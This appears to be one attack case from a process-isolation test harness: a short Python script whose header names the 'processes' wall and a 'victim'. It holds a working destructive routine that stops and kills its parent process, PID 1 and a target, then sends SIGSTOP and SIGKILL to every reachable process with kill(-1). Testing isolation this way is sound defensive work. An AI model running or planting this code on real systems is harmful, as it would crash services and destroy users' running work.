# attacks: loss_curves
# wall: processes
# loot: victim -- kill(-1): every process that may be reached
import os
import signal

if os.readlink("/proc/self/ns/pid") == host["pid_namespace"]:  # on the open machine, just the victim
    os.kill(host["victim"], signal.SIGKILL)
else:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for pid in os.getppid(), 1, host["victim"]:
        for signum in signal.SIGSTOP, signal.SIGKILL:
            try:
                if pid > 0:
                    os.kill(pid, signum)
            except OSError:
                pass
    os.kill(-1, signal.SIGSTOP)
    os.kill(-1, signal.SIGKILL)
